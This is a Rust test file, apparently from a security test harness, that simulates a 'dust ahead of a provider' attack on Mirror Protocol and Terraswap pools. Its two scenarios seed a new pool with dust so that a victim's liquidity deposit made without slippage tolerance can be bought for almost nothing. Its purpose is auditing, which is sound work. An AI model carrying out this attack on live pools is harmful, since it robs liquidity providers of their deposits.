//! A pool into which somebody has put dust before its first provider.

use cosmwasm_std::{coin, Uint128};
use cw20::Cw20ExecuteMsg;
use mirror_protocol::staking;
use mirror_testing::{percent, World, BASE};
use terraswap::asset::Asset;
use terraswap::pair;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, UNIT};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::{base, Transaction};
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "dust ahead of a provider",
    story:
        "Two micro coins and a whole mAAPL made a new pool's price absurd: the first who staked \
            100,000 coins and 1,000 mAAPL without a tolerance gave all his mAAPL for 2,000 micro \
            coins, and the next swap took 99,671 coins' worth of them.",
    run,
};

/// The coins that bob provides.
const BASE_OF_BOB: u128 = 100_000 * UNIT;
/// The mAAPL that bob provides, at a price of 100.
const TOKENS_OF_BOB: u128 = 1_000 * UNIT;

/// How bob provides.
#[derive(Clone, Copy)]
enum Way {
    /// By staking, which stakes the LP tokens for him.
    AutoStake,
    /// To the pair itself.
    Provide,
}

fn run() -> anyhow::Result<Findings> {
    Ok(Findings {
        attempts: vec![
            dust(
                Way::AutoStake,
                "put 2 micro coins and a mAAPL into a new pool, and bought what bob staked next",
            )?,
            dust(
                Way::Provide,
                "the same while bob provides to the pair itself",
            )?,
        ],
        exposures: vec![skewed(95)?.exposes(
            "a pool of dust stands just less than 5 % from the price, which is what who names no \
             tolerance accepts",
        )],
    })
}

/// The attacker's pool has `percent` of the right price; bob's deposit is accepted, and the
/// attacker swaps until the price is right.
fn skewed(percent: u128) -> anyhow::Result<Attempt> {
    let mut trial = prepared()?;
    let listed = trial.world.asset("mAAPL");
    let (coins, tokens) = (100 * UNIT * percent / 100 + UNIT / 100, UNIT);
    let dust = Asset::token(&listed.token, tokens);
    trial.does(Transaction::new().provides(&listed.pair, base(coins), dust))?;
    bob_provides(&mut trial, Way::Provide)?;
    // Half of the missing coins bring the price back.
    let coins = base(BASE_OF_BOB * (100 - percent) / 200);
    trial.does(Transaction::new().swaps(&listed.pair, coins))?;
    trial.ends(String::new())
}

/// The attacker puts dust into the pool, and buys what bob provides for almost nothing.
fn dust(way: Way, tried: &str) -> anyhow::Result<Attempt> {
    let mut trial = prepared()?;
    let listed = trial.world.asset("mAAPL");
    let token = Asset::token(&listed.token, UNIT);
    trial.does(Transaction::new().provides(&listed.pair, base(2), token))?;

    if let Err(refusal) = bob_provides(&mut trial, way) {
        trial.refused_to_others("T-55", &refusal);
    }
    // If bob's deposit was accepted at the absurd price, a coin buys almost all of it.
    let coins = base(UNIT);
    let given = fixtures::simulated(&trial.world, &listed.pair, &coins)?;
    if given > Uint128::new(UNIT) {
        trial.does(Transaction::new().swaps(&listed.pair, coins))?;
    }
    trial.ends(tried)
}

fn prepared() -> anyhow::Result<Trial> {
    let mut world = World::new().with_asset("mAAPL", "100");
    for name in ["attacker", "bob"] {
        world
            .actor(name)
            .opens(4 * BASE_OF_BOB, "mAAPL", percent(200));
    }
    let mut trial = Trial::new(world, &[("mAAPL", fixtures::price("100")?)])?;
    trial.measures("bob")?;
    Ok(trial)
}

/// Bob provides without a limit on the price.
fn bob_provides(trial: &mut Trial, way: Way) -> anyhow::Result<()> {
    let listed = trial.world.asset("mAAPL");
    let assets = [
        base(BASE_OF_BOB),
        Asset::token(&listed.token, TOKENS_OF_BOB),
    ];
    let at = match way {
        Way::AutoStake => trial.world.at.staking.clone(),
        Way::Provide => listed.pair,
    };
    let allow = Cw20ExecuteMsg::IncreaseAllowance {
        spender: at.to_string(),
        amount: TOKENS_OF_BOB.into(),
        expires: None,
    };
    trial.world.bob().tries(&listed.token, &allow, &[])?;
    let funds = [coin(BASE_OF_BOB, BASE)];
    match way {
        Way::AutoStake => {
            let stake = staking::ExecuteMsg::AutoStake {
                assets,
                slippage_tolerance: None,
            };
            trial.world.bob().tries(&at, &stake, &funds)?;
        }
        Way::Provide => {
            let provide = pair::ExecuteMsg::ProvideLiquidity {
                assets,
                receiver: None,
                deadline: None,
                slippage_tolerance: None,
            };
            trial.world.bob().tries(&at, &provide, &funds)?;
        }
    }
    Ok(())
}
